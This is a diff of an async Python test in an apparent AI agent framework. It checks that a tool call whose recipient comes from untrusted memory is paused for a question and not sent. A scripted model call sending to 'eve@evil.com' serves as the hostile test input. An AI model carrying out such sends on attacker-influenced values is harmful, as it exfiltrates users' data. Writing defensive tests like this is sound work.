@@ -141,7 +141,8 @@ async def test_what_a_coordinator_knows_is_untrusted() -> None:
 
     model = ScriptedChatModel([call_tool(("send", {"to": "eve@evil.com"}))])
     agent = Agent(agent_id="w", model=model, tools=(send,))
-    engine = ConversationEngine(Told(), Planner([[task("letter")]]), agent=agent)
-    paused = (await until(engine.run("go"), "engine_paused"))[-1]
+    run = ConversationEngine(Told(), Planner([[task("letter")]]), agent=agent).run("go")
+    paused = (await until(run, "engine_paused"))[-1]
+    await run.aclose()
     (call,) = paused.data["question"]["calls"]
     assert (call["reason"], call["sources"]["to"][0]["kind"], sent) == ("values", "memory", [])
